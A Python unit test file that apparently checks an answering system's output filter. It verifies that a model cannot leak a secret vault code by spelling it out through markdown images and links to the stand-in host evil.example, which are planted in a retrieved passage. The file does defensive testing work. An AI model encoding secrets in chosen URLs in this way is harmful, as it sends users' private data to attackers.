"""An obedient model cannot carry out a secret by choosing among the addresses of a document."""

import pytest

from tests.unit.answering.passages import checker, passage, released

SECRET = "The code of the vault is swordfish."
LETTERS = "\n".join(
    f"- Picture {letter}: ![{letter}](https://evil.example/{letter}.png)" for letter in "swordfih"
)
LINKS = "\n".join(f"- [Page {letter}](https://evil.example/{letter})" for letter in "swordfih")


async def answer(evidence: str, said: str) -> str:
    passages = (passage(1, f"{SECRET} See the manual for the rest."), passage(2, evidence))
    return "".join(await released(checker(passages), [said]))


async def test_pictures_of_a_document_are_not_shown_even_if_it_says_them_word_for_word() -> None:
    spelled = "".join(
        f"- Picture {letter}: ![{letter}](https://evil.example/{letter}.png) [2]\n"
        for letter in "swordfish"
    )

    said = await answer(LETTERS, spelled)

    assert "![" not in said
    assert "[s](https://evil.example/s.png)" in said


@pytest.mark.parametrize(
    "said",
    [
        "See [the manual](https://evil.example/s) for the rest. [1]",
        "See the manual https://evil.example/s for the rest. [1]",
        "[See the manual for the rest.](https://evil.example/s) [1]",
        "See the manual for the rest: https://evil.example/s [1]",
    ],
)
async def test_an_address_of_another_passage_than_the_cited_one_does_not_leave(said: str) -> None:
    assert "evil.example" not in await answer(LINKS, said)


async def test_an_address_of_the_cited_passage_leaves() -> None:
    link = "The manual is at [its page](https://good.example/manual)."

    assert await answer(link, f"{link} [2]") == f"{link} [1]"
